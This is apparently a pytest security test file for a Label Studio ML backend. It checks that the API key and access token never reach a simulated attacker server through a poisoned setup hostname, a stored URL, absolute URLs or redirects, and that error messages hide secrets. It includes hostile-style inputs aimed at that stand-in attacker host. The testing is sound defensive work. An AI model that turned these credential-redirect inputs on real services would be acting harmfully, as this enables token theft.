"""Issue 9 §1: the Label Studio API key goes to the configured Label Studio only.

Each case runs with a personal access token (JWT, exchanged at ``/api/token/refresh/``) and with
a legacy key (``Authorization: Token``), against a real fake-LS server and a real attacker server
on 127.0.0.1; the attacker must receive no request carrying the key (or the access token)."""

from __future__ import annotations

import pytest

from backend.db import session_scope
from backend.images import ImageError, auth_headers, load_image, ls_client
from backend.models import Project
from tests.helpers_unit import config_text, make_settings
from tests.security.conftest import app_client

SCHEMA = config_text("awake_sleep")


def _secrets(ls):
    return (ls.api_key, ls.access)


def test_issue_repro_setup_hostname_does_not_redirect_credentials(tmp_path, ls, attacker):
    # issue 9 §1, requests 1 and 2, verbatim (plus a second /predict after the poisoned /setup)
    c = app_client(tmp_path, label_studio_url=ls.url, label_studio_api_key=ls.api_key)
    r = c.post("/setup", json={"project": "999.1", "schema": SCHEMA, "hostname": attacker.url})
    assert r.status_code == 200, r.text
    r = c.post("/predict", json={"project": "999.1", "tasks": [
        {"id": 1, "project": 999, "data": {"image": "/data/upload/1/x.jpg"}}]})
    assert r.status_code == 200, r.text
    assert attacker.seen == [], [s.text()[:200] for s in attacker.seen]  # no request at all, so no key
    res = r.json()["results"][0]
    assert "error" not in res, res  # the image came from the configured Label Studio, with the token
    assert any(s.path == "/data/upload/1/x.jpg" for s in ls.seen)
    with session_scope(c.app.state.settings.database_url) as s:
        assert s.get(Project, 999).ls_url == ""  # the hostname is not stored


def test_poisoned_stored_ls_url_is_ignored_by_the_worker_paths(tmp_path, ls, attacker):
    # A database written by an older version may hold a poisoned Project.ls_url: the worker passes
    # it to ls_client()/load_image() (ml_worker/training.py, scoring.py, dataset.py); both ignore
    # a URL that is not LABEL_STUDIO_URL or one of its aliases.
    s = make_settings(tmp_path, label_studio_url=ls.url, label_studio_api_key=ls.api_key)
    client = ls_client(s, attacker.url)
    assert client._client_wrapper.get_base_url().startswith(ls.url)
    assert auth_headers(s, attacker.url)["Authorization"].split()[1] in _secrets(ls)
    img = load_image("/data/upload/1/x.jpg", s, ls_url=attacker.url)
    assert (img.width, img.height) == (96, 80)
    assert attacker.seen == []


def test_alias_of_label_studio_is_used(tmp_path, ls):
    alias = ls.url.replace("127.0.0.1", "localhost")
    s = make_settings(tmp_path, label_studio_url=ls.url, label_studio_url_aliases=alias,
                      label_studio_api_key=ls.api_key)
    assert load_image(f"{alias}/data/upload/1/x.jpg", s).width == 96
    assert any(x.path == "/data/upload/1/x.jpg" and "Authorization" in x.headers for x in ls.seen)


@pytest.mark.parametrize("allow_private", [False, True])
def test_absolute_url_to_another_host_gets_no_credentials(tmp_path, ls, attacker, allow_private):
    s = make_settings(tmp_path, label_studio_url=ls.url, label_studio_api_key=ls.api_key,
                      image_urls_allow_private=allow_private)
    with pytest.raises(ImageError) as e:
        load_image(f"{attacker.url}/data/upload/1/x.jpg", s)  # attacker answers JSON: not an image
    assert attacker.leaked(*_secrets(ls)) == []
    assert all("authorization" not in {k.lower() for k in x.headers} for x in attacker.seen)
    if not allow_private:
        assert "private or loopback" in str(e.value) and attacker.seen == []


@pytest.mark.parametrize("allow_private", [False, True])
def test_redirect_from_label_studio_to_another_host_drops_credentials(tmp_path, ls, attacker, image, allow_private):
    attacker.routes["/img.jpg"] = lambda h: (200, {"Content-Type": "image/jpeg"}, image)
    ls.routes["/data/upload/9/"] = lambda h: (302, {"Location": f"{attacker.url}/img.jpg?token=abc"}, b"")
    s = make_settings(tmp_path, label_studio_url=ls.url, label_studio_api_key=ls.api_key,
                      image_urls_allow_private=allow_private)
    if allow_private:
        assert load_image("/data/upload/9/r.jpg", s).width == 96  # followed, without the token
        assert [x.path for x in attacker.seen] == ["/img.jpg?token=abc"]
    else:
        with pytest.raises(ImageError, match="private or loopback"):
            load_image("/data/upload/9/r.jpg", s)
        assert attacker.seen == []
    assert attacker.leaked(*_secrets(ls)) == []
    assert all("authorization" not in {k.lower() for k in x.headers} for x in attacker.seen)


def test_redirect_within_label_studio_to_api_is_refused(tmp_path, ls):
    ls.routes["/data/upload/8/"] = lambda h: (302, {"Location": "/api/current-user/whoami"}, b"")
    s = make_settings(tmp_path, label_studio_url=ls.url, label_studio_api_key=ls.api_key)
    with pytest.raises(ImageError, match="not a Label Studio file URL"):
        load_image("/data/upload/8/r.jpg", s)
    assert not any(x.path.startswith("/api/current-user") for x in ls.seen)


def test_errors_never_echo_bytes_or_query_tokens(tmp_path, ls):
    ls.image = b"SECRET-BYTES-FROM-LS " * 10
    s = make_settings(tmp_path, label_studio_url=ls.url, label_studio_api_key=ls.api_key)
    with pytest.raises(ImageError) as e:
        load_image("/data/upload/1/x.jpg?sig=TOPSECRETSIG", s)
    assert "SECRET" not in str(e.value) and "TOPSECRETSIG" not in str(e.value)
    assert "not a readable image" in str(e.value)
    ls.routes["/data/upload/7/"] = lambda h: (500, {}, b"SECRET-ERROR-PAGE")
    with pytest.raises(ImageError) as e:
        load_image("/data/upload/7/x.jpg?sig=TOPSECRETSIG", s)
    assert "SECRET" not in str(e.value) and "HTTP 500" in str(e.value)


def test_user_info_in_url_is_not_echoed(tmp_path):
    s = make_settings(tmp_path)
    with pytest.raises(ImageError) as e:
        load_image("http://user:hunter2@127.0.0.1:1/x.jpg", s)
    assert "hunter2" not in str(e.value)
